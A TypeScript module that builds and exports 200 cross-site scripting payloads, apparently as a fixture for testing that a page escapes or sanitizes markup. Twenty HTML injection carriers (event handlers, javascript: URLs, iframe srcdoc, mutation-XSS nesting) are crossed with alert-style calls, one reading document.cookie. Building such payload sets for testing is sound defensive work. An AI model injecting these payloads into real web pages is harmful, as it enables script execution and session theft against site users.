const calls = [
  'alert(1)',
  'alert(document.cookie)',
  'confirm`1`',
  'prompt(1)',
  'window["al"+"ert"](1)',
  'top.alert(1)',
  'setTimeout("alert(1)")',
  'eval("alert(1)")',
  '(()=>alert(1))()',
  'self.constructor.constructor("alert(1)")()',
];

const carriers: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</title></textarea></script><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `'"><img src=x onerror="${call}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `\${${call}}{{${call}}}`,
  (call) => `<b onmouseover=${call} style=position:fixed;inset:0>x</b>`,
  (call) =>
    `<link rel=stylesheet href="javascript:${call}"><meta http-equiv=refresh content="0;javascript:${call}">`,
];

/** 200 texts that a page would execute if it inserted them as markup (promise 25). */
export const scriptPayloads: readonly string[] = carriers.flatMap((carry) => calls.map(carry));
